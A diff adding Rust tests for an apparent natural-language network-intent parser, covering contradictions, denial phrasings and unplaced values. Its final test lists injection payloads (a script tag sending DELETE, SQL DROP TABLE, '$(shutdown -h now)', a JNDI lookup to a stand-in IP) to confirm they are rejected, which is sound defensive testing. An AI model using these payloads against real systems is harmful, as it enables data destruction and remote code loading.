@@ -202,3 +202,67 @@ proptest! {
         });
     }
 }
+
+#[test]
+fn what_contradicts_itself_is_asked_about() {
+    for (sentence, slot) in [
+        ("limit dorms to at most 20M but at least 50M", "max"),
+        ("limit dorms to 10M and to 20M", "max"),
+        ("allow and deny ssh from dorms to ams1", "action"),
+        ("turn ge-0/0/1 on ams1 on and off", "admin"),
+    ] {
+        match read(sentence) {
+            Answer::Ask(question) => {
+                assert_eq!(question.reason, Reason::Contradiction, "{sentence}: {question:?}");
+                assert!(question.slots.iter().any(|it| it == slot), "{sentence}: {question:?}");
+            }
+            other @ (Answer::Intents(_) | Answer::Refuse(_)) => panic!("{sentence}: {other:?}"),
+        }
+    }
+}
+
+#[test]
+fn a_denial_is_heard_however_it_is_written() {
+    for sentence in [
+        "dorms are not allowed to reach ams1",
+        "dorms aren't allowed to reach ams1",
+        "dorms arent allowed to reach ams1",
+        "dorms mustn't reach ams1",
+        "nobody from dorms may reach ams1",
+        "宿舍网不许访问ams1",
+    ] {
+        let reading = one(sentence);
+        assert_eq!(
+            (reading.class.as_str(), &reading.slots["action"]),
+            ("access.control", &json!("deny")),
+            "{sentence}"
+        );
+    }
+}
+
+#[test]
+fn a_value_that_finds_no_place_is_asked_about() {
+    for sentence in [
+        "shut ams1 ge-0/0/1 10.8.0.0/16",
+        "limit dorms to 50M 443",
+        "watch the latency from dorms to ams1, over 20 is bad",
+        "limit ge-0/0/1 to 10M",
+    ] {
+        let answer = read(sentence);
+        assert!(!matches!(answer, Answer::Intents(_)), "{sentence}: {answer:?}");
+    }
+}
+
+#[test]
+fn scripts_are_no_intents() {
+    for sentence in [
+        "<script>fetch('/v1/intents',{method:'DELETE'})</script>",
+        "'; DROP TABLE intents; --",
+        "$(shutdown -h now)",
+        "{{ams1}} ${jndi:ldap://192.0.2.1/a}",
+        "ams1 амс1 ａｍｓ１ 限 limit حد",
+    ] {
+        let answer = read(sentence);
+        assert!(!matches!(answer, Answer::Intents(_)), "{sentence}: {answer:?}");
+    }
+}
